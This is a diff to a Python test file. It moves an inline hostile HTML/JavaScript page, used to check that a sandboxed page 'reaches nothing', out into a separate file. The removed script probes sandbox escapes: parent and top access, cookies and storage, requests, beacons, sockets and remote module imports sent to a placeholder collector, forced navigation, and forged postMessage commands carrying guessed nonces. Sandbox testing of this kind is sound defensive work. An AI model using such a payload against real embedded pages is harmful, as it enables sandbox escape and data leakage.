@@ -161,53 +161,7 @@ def cart(page: str, **more: Any) -> dict[str, Any]:
     }  # fmt: skip
 
 
-ATTACK = r"""<!doctype html><pre id="out"></pre><script>
-const out = document.getElementById("out");
-const told = {};
-const tell = (name, words) => { told[name] = String(words).slice(0, 60); out.textContent = JSON.stringify(told); };
-const attempt = async (name, work) => {
-  try { tell(name, `REACHED ${await work()}`); } catch (error) { tell(name, `stopped: ${error.name ?? error}`); }
-};
-const picture = (src) => new Promise((resolve, reject) => {
-  const image = new Image(); image.onload = resolve; image.onerror = () => reject(new Error()); image.src = src;
-});
-const socket = (url) => new Promise((resolve, reject) => {
-  const line = new WebSocket(url); line.onopen = resolve; line.onerror = () => reject(new Error());
-});
-(async () => {
-  await attempt("parent", () => parent.document.title);
-  await attempt("top", () => top.location.href);
-  await attempt("storage", () => localStorage.length);
-  await attempt("database", () => new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = () => no(new Error()); }));
-  await attempt("cookie", () => document.cookie);
-  await attempt("daemon", () => fetch("http://127.0.0.1:DAEMON/health", {mode: "no-cors"}));
-  await attempt("own host", () => fetch("http://localhost:DAEMON/health", {mode: "no-cors"}));
-  await attempt("network", () => fetch("http://127.0.0.1:COLLECTOR/fetch", {mode: "no-cors"}));
-  navigator.sendBeacon("http://127.0.0.1:COLLECTOR/beacon");
-  await attempt("picture", () => picture("http://127.0.0.1:COLLECTOR/picture"));
-  await attempt("socket", () => socket("ws://127.0.0.1:COLLECTOR/socket"));
-  await attempt("module", () => import("http://127.0.0.1:COLLECTOR/module.js"));
-  await attempt("worker", () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = yes; w.onerror = () => no(new Error()); }));
-  await attempt("window", () => { if (!open("http://127.0.0.1:COLLECTOR/window")) throw new Error(); });
-  await attempt("leaving", () => { top.location = "http://127.0.0.1:COLLECTOR/top"; });
-  const form = document.createElement("form"); form.action = "http://127.0.0.1:COLLECTOR/form"; document.body.append(form);
-  form.submit();
-  for (const [tag, key] of [["iframe", "src"], ["object", "data"], ["embed", "src"], ["video", "src"], ["audio", "src"]]) {
-    const made = document.createElement(tag); made[key] = `http://127.0.0.1:COLLECTOR/${tag}`; document.body.append(made);
-  }
-  for (const rel of ["stylesheet", "preload", "prefetch", "preconnect", "icon", "manifest"]) {
-    const link = document.createElement("link"); link.rel = rel; link.as = "script"; link.href = `http://127.0.0.1:COLLECTOR/${rel}`; document.head.append(link);
-  }
-  await (async () => {
-    const peer = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:UDP"}]});
-    peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer());
-    await new Promise((resolve) => setTimeout(resolve, 1500));
-  })().catch(() => undefined);
-  for (const kind of ["cart_ready", "cart_init", "chat_request", "cart_event", "operator_mic"])
-    parent.postMessage({kind, corr: 1, text: "run it", nonce: "guessed", transcript: []}, "*");
-  tell("end", "of it");
-})();
-</script>"""
+ATTACK = Path(__file__).with_name("hostile_page.html").read_text()
 
 
 def test_page_of_an_egg_reaches_nothing(
